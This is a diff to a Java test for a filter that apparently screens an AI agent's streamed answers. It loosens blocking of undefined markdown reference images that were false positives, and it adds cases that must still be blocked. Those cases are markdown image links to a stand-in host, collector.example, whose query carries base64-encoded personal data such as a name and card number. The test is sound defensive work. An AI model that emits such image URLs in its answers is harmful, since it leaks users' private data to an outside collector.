@@ -438,10 +438,39 @@ class AgentPresetTest {
     }
 
     @Test
-    void aStreamBlocksAReferenceImageWithNoDefinitionWithinTheHoldTheDocumentedPrice() {
-        String answer = "Wow![sic] that is " + "The numbers look steady and the team is on track. ".repeat(100);
-        assertAnswerPasses(answer);
-        assertThat(stream(answer, 5).blocked()).isNotNull();
+    void aReferenceImageWithNoDefinitionWithinTheHoldIsReleasedAndItsLabelRemembered() {
+        // held for 4,096 characters, such an image was blocked (a documented false positive: Rust's vec![..],
+        // TypeScript's items![0], XML's <![CDATA[, a README's logo defined at its end); it is released now, and a
+        // definition that comes later is judged with it
+        String prose = "The numbers look steady and the team is on track. ".repeat(100);
+        for (String answer : List.of(
+                "Wow![sic] that is " + prose,
+                "```rust\nlet v = vec![1, 2, 3];\n```\n\n" + prose,
+                "const first = items![0];\n\n" + prose,
+                "<![CDATA[ raw ]]>\n\n" + prose,
+                "![logo][logo]\n\n" + prose + "\n\n[logo]: https://cdn.example.com/img/logo.png\n")) {
+            assertAnswerPasses(answer);
+            for (int size : new int[] {1, 5, 64}) {
+                StreamOutcome out = stream(answer, size);
+                assertThat(out.blocked())
+                        .as("%s in chunks of %d", answer.substring(0, 20), size)
+                        .isNull();
+                assertThat(out.received()).isEqualTo(answer);
+            }
+        }
+        String u = "https://collector.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
+        for (String answer : List.of(
+                "See ![chart][x].\n\n" + prose + "\n\n[x]: " + u + "\n",
+                "See ![x] here.\n\n" + prose + prose + "\n\n[x]:\n" + u + "\n",
+                "See ![chart][x] and " + prose + " ![a](https://collector.example/p.png?" + "a=1&".repeat(900) + "d="
+                        + "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)")) {
+            assertAnswerBlockedAsExfiltration(answer);
+            for (int size : new int[] {1, 5, 64}) {
+                assertThat(stream(answer, size).blocked())
+                        .as("%s in chunks of %d", answer.substring(0, 20), size)
+                        .isNotNull();
+            }
+        }
     }
 
     @Test
